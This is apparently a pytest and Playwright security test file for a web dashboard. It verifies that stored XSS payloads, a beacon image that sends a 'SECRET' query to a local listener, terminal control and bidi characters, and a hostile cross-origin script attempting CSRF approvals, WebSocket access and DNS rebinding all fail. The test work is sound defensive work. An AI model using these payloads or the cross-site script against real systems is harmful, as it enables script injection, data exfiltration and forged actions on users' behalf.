"""What others wrote, and other sites: in a real browser nothing of it acts, and nothing leaves it."""

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Error, Page, expect

from holdfast.web.screens import SCREENS, TABS
from tests.cli.project import Project
from tests.web.conftest import Visit
from tests.web.site import Site, listener

TRICKS = (
    "<img src=x onerror=alert(1)>",
    "</script><svg onload=alert(2)>",
    "</textarea></pre><script>alert(3)</script>",
    "[click](javascript:alert(4))",
    "[data](data:text/html,<script>alert(5)</script>)",
    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "{{7*7}}${7*7}{% raw %}",
    "<a hx-get=/ hx-trigger=load onclick=alert(7)>x</a>",
    "<base href=http://127.0.0.1:9/><meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<style>body{display:none}</style><link rel=stylesheet href=http://127.0.0.1:9/>",
    "<form action=http://127.0.0.1:9/><button>y</button></form>",
)
CONTROLS = {
    "\x1b[2J": "\\u{1b}[2J",
    "\x1b]0;title\x07": "\\u{1b}]0;title\\u{7}",
    "\x9b31m": "\\u{9b}31m",
    "over\rwritten": "over\\u{d}written",
    "\u202egnp.exe": "\\u{202e}gnp.exe",
    "ze\u200bro": "ze\\u{200b}ro",
    "tag\U000e0041": "tag\\u{e0041}",
}


def _hostile(project: Project, port: int) -> None:
    """A run with tricks in the name of the line, ids of items, files, output, logs, feedback, reasons."""
    beacon = f"![x](http://127.0.0.1:{port}/?q=SECRET) <img src=http://127.0.0.1:{port}/i>"
    project.write("evil.txt", "\n".join([*TRICKS, beacon, *CONTROLS]))
    text = "\n".join([*TRICKS, beacon])
    project.write("before.md", f"# old\n{beacon}\n")
    item = TRICKS[0]
    project.plan(
        {
            "prose": {
                "shell": "cat before.md evil.txt > '<img src=x onerror=alert(8)>.md'",
                "produces": "<img src=x onerror=alert(8)>.md",
                "description": text,
                "inputs": ["evil.txt", "before.md"],
            },
            "each": {
                "for_each": [item],
                "with": {"v": "${{ item }}"},
                "shell": "cat $HOLDFAST_WITH/v; cat evil.txt >&2",
            },
            "judged": {
                "shell": "cat evil.txt; cat evil.txt >&2; date +%N",
                "retries": 1,
                "guards": [{"command": ["sh", "-c", "cat evil.txt; false"], "name": TRICKS[0]}],
            },
            "ask": {"uses": "human", "prompt": text},
            "ship": {"run": ["echo", text], "approve": "always", "with": {"x": text}},
        },
        name=TRICKS[0],
        goal=text,
    )
    project.run("--yes")
    project.call("reject", "ship", "--because", TRICKS[1])


@pytest.mark.req("D30", "D36")
def test_nothing_that_others_wrote_acts_on_the_page(
    project: Project, site: Callable[..., Site], visit: Visit
) -> None:
    with listener() as (port, seen):
        _hostile(project, port)
        found = site()
        page = visit.open(found)
        expect(page.locator("tbody")).to_contain_text(TRICKS[0])
        run = project.status("@").id
        steps = list(project.status("@").states)
        assert len(steps) == 6
        page.goto(f"{found.base}/runs/{run}?open=each")
        for step in steps:
            for view in ("result", "attempts", "why", "logs", "evidence"):
                path = f"/runs/{run}/step?step={_quoted(step)}&view={view}"
                page.evaluate("(path) => htmx.ajax('GET', path, '#drawer')", path)
                _is_tame(page)
        page.goto(f"{found.base}/runs/{run}?open=each&step={_quoted(steps[-1])}")
        _is_tame(page)
        page.goto(f"{found.base}/runs/{run}?step=judged&view=attempts")
        drawer = page.locator("#drawer")
        for shown in CONTROLS.values():
            expect(drawer).to_contain_text(shown)
        for trick in TRICKS:
            expect(drawer).to_contain_text(trick)
        page.goto(f"{found.base}/runs/{run}?step=prose&view=result")
        expect(drawer).to_contain_text(f"http://127.0.0.1:{port}/?q=SECRET")
        for path in (*(f"/runs/{run}{tab.path}" for tab in TABS), *(path for path, _ in SCREENS)):
            page.goto(found.base + path)
            expect(page.locator("h1")).to_be_visible()
            _is_tame(page)
        page.goto(f"{found.base}/approvals")
        expect(page.locator("[data-card]").first).to_contain_text("waits for")
        _is_tame(page)
        page.goto(f"{found.base}/?q={_quoted(TRICKS[0])}")
        page.goto(f"{found.base}/{_quoted(TRICKS[0])}")
        expect(page.locator("main")).to_contain_text("there is no page")
        visit.faults = [one for one in visit.faults if "404" not in one]
        visit.clean(found)
        assert seen == [], "nothing was asked for outside of the page"


def _quoted(text: str) -> str:
    return quote(text, safe="")


TAME = """() => {
  const wrong = [], own = (address) => new URL(address, location.href).origin === location.origin;
  const hiding = /[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u200b-\\u200f\\u202a-\\u202e]/;
  const acting = /^(iframe|base|object|embed|style|img|image|frame|video|audio|foreignObject)$/i;
  for (const one of document.querySelectorAll("*")) {
    if (acting.test(one.tagName)) wrong.push(one.outerHTML);
    for (const {name, value} of one.attributes) {
      if (/^on|^style$/i.test(name)) wrong.push(name + "=" + value);
      if (/^(href|src|action)$/.test(name) && !/^[/#]/.test(value)) wrong.push(name + "=" + value);
      if (hiding.test(value)) wrong.push("hides: " + value);
    }
  }
  if (hiding.test(document.documentElement.textContent)) wrong.push("hides");
  for (const one of document.scripts)
    if (one.text || !one.src.startsWith(location.origin + "/static/")) wrong.push(one.outerHTML);
  if ([...document.forms].some((one) => !own(one.action))) wrong.push("form");
  return wrong;
}"""


def _is_tame(page: Page) -> None:
    """No element or attribute is there that acts but our own, and no sign that hides."""
    assert page.evaluate(TAME) == []


@contextmanager
def _evil_site(script: str) -> Iterator[int]:
    """Another site on this machine that runs a script of its own in whoever opens it."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = f"<!doctype html><title>evil</title><script>{script}</script>".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - its name above
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


SCRIPT = """
const got = [];
const paths = ["/", "/approvals", "/door/token", "/static/page.js", "/live/runs", "/runs/r-"];
async function read(address, how) {
  try {
    const text = await (await fetch(address, how)).text();
    if (text) got.push([address, how, text.slice(0, 80)]);
  } catch (error) {}
}
const settled = (make) => new Promise(make);
async function tries(base) {
  for (const path of paths)
    for (const mode of ["cors", "no-cors", "same-origin"])
      for (const credentials of ["include", "omit"]) await read(base + path, {mode, credentials});
  const post = {method: "POST", credentials: "include", body: BODY};
  const headers = {"Content-Type": "application/json", "X-Holdfast-Token": "x"};
  await read(base + "/approvals/decide", {...post, headers});
  for (const type of ["text/plain", "application/x-www-form-urlencoded"])
    await read(base + "/approvals/decide", {...post, mode: "no-cors", headers: {"Content-Type": type}});
  await settled((done) => {
    const wire = new WebSocket(base.replace("http", "ws") + "/live/runs");
    wire.onopen = () => { got.push(["ws", base]); done(); };
    wire.onerror = done;
  });
  await settled((done) => {
    const stream = new EventSource(base + "/live/runs", {withCredentials: true});
    stream.onopen = () => { got.push(["sse", base]); stream.close(); done(); };
    stream.onerror = () => { stream.close(); done(); };
  });
  await settled((done) => {
    const script = document.createElement("script");
    script.src = base + "/static/htmx.min.js";
    script.onload = () => { got.push(["script", base]); done(); };
    script.onerror = done;
    document.head.append(script);
  });
  await settled((done) => {
    const frame = document.createElement("iframe");
    frame.src = base + "/approvals";
    frame.onload = () => {
      try { if (frame.contentDocument.body.innerText.includes("Approvals")) got.push(["frame", base]); }
      catch (error) {}
      done();
    };
    document.documentElement.append(frame);
  });
}
(async () => { for (const base of BASES) await tries(base); window.result = got; })();
"""


@pytest.mark.req("D29")
def test_other_sites_get_nothing_not_even_by_a_name_that_points_here(
    project: Project, site: Callable[..., Site], browser: Browser
) -> None:
    project.plan({"out": {"shell": project.sh(), "approve": "always"}})
    assert project.run().code == 3
    asked = project.ok("approvals", "--json").json["approvals"][0]
    found = site()
    body = json.dumps(
        {
            "run": asked["run"],
            "approval": asked["approval"],
            "subject": asked["subject"],
            "answer": "yes",
        }
    )
    own, named = found.base, f"http://rebind.test:{found.port}"
    script = SCRIPT.replace("BASES", json.dumps([own, named])).replace("BODY", json.dumps(body))
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(found.address)
        expect(page.locator("tbody tr")).to_have_count(1)
        with _evil_site(script) as port:
            for name in ("127.0.0.1", "localhost", "rebind.test"):
                evil = context.new_page()
                evil.goto(f"http://{name}:{port}/")
                evil.wait_for_function("window.result !== undefined", timeout=60_000)
                assert evil.evaluate("window.result") == [], name
                evil.close()
        direct = context.new_page()
        with pytest.raises(Error, match="RESPONSE_CODE_FAILURE"):  # there is nothing to show
            direct.goto(f"{named}/")
    finally:
        context.close()
    states = [one["state"] for one in project.ok("approvals", "--json").json["approvals"]]
    assert states == ["open"]
